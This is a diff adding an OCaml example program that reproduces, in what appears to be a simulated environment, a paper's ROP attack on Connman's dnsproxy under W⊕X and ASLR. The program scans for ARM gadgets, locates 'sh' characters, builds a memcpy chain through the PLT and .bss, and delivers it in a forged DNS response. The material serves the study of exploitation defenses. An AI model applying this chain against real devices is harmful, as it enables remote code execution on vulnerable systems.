@@ -1,0 +1,90 @@
+(* The paper's hardest exploit, step by step: §III-C2 — ARMv7 with W⊕X and
+   ASLR both enabled, defeated by a memcpy ROP chain through the PLT and
+   .bss (Listing 5), delivered in a DNS response.
+
+     dune exec examples/rop_attack.exe *)
+
+module Dnsproxy = Connman.Dnsproxy
+module Process = Loader.Process
+
+let say fmt = Format.printf (fmt ^^ "@.")
+let hex v = Printf.sprintf "0x%08x" v
+
+let () =
+  say "== §III-C2: ROP vs W⊕X + ASLR on ARMv7 ==";
+  say "";
+  let config =
+    {
+      Dnsproxy.version = Connman.Version.v1_34;
+      arch = Loader.Arch.Arm;
+      profile = Defense.Profile.wx_aslr;
+      boot_seed = 7;
+      diversity_seed = None;
+    }
+  in
+  (* --- the attacker's bench: their own copy of the firmware --- *)
+  let analysis =
+    Dnsproxy.process
+      (Dnsproxy.create { config with Dnsproxy.boot_seed = 90210 })
+  in
+  say "[analysis] attacker boots their own device copy:";
+  say "  libc base (this boot only!)  %s"
+    (hex analysis.Process.layout.Loader.Layout.libc_base);
+  say "  .text / .plt / .bss (fixed)  %s / %s / %s"
+    (hex analysis.Process.layout.Loader.Layout.text_base)
+    (hex analysis.Process.layout.Loader.Layout.plt_base)
+    (hex analysis.Process.layout.Loader.Layout.bss_base);
+  say "";
+
+  say "[ropper] scanning the Connman image for gadgets:";
+  let gadgets = Exploit.Gadget.scan_arm analysis ~regions:[ ".text" ] in
+  List.iteri
+    (fun i g -> if i < 8 then say "  %s" (Format.asprintf "%a" Exploit.Gadget.pp_arm g))
+    gadgets;
+  say "  (%d total)" (List.length gadgets);
+  say "";
+
+  say "[memstr] single characters of \"sh\" inside .text:";
+  (match Exploit.Memstr.find_chars analysis ~regions:[ ".text" ] "sh" with
+  | Some chars ->
+      List.iter (fun (c, addr) -> say "  '%c' at %s" c (hex addr)) chars
+  | None -> say "  (none?)");
+  say "";
+
+  (* --- payload construction (Listing 5) --- *)
+  (match Exploit.Payload.rop_aslr_arm (Exploit.Target.connman analysis) with
+  | Error e -> say "payload failed: %s" (Format.asprintf "%a" Exploit.Payload.pp_error e)
+  | Ok payload ->
+      say "[payload] %s chain:" payload.Exploit.Payload.strategy;
+      List.iter (fun n -> say "  %s" n) payload.Exploit.Payload.notes;
+      (match Exploit.Payload.to_wire_name payload with
+      | Error e -> say "planning failed: %s" e
+      | Ok raw_name ->
+          say "  %d payload bytes fitted into %d wire bytes of DNS labels"
+            (Array.length payload.Exploit.Payload.spec)
+            (String.length raw_name);
+          say "";
+
+          (* --- the victim: different boot, different ASLR draw --- *)
+          let victim = Dnsproxy.create config in
+          let vproc = Dnsproxy.process victim in
+          say "[victim] fresh boot with its own ASLR draw:";
+          say "  libc base   %s (attacker's copy had %s)"
+            (hex vproc.Process.layout.Loader.Layout.libc_base)
+            (hex analysis.Process.layout.Loader.Layout.libc_base);
+          say "  stack top   %s" (hex vproc.Process.layout.Loader.Layout.stack_top);
+          say "";
+
+          let query = Dnsproxy.make_query victim (Dns.Name.of_string "ipv4.connman.net") in
+          let wire = Dns.Craft.hostile_response ~query ~raw_name () in
+          say "[attack] forged DNS response (%d bytes on the wire)"
+            (String.length wire);
+          let disposition = Dnsproxy.handle_response victim wire in
+          say "  -> %s" (Format.asprintf "%a" Dnsproxy.pp_disposition disposition);
+          (* Show the string the chain assembled in .bss. *)
+          let bss = Process.symbol vproc "__bss_start" in
+          say "  .bss+4 now holds: %S"
+            (Memsim.Memory.read_cstring vproc.Process.mem (bss + 4));
+          say "";
+          say "The chain used only PLT stubs, .text gadgets and .bss — none of";
+          say "which ASLR moves in a non-PIE build. That is the paper's point."))
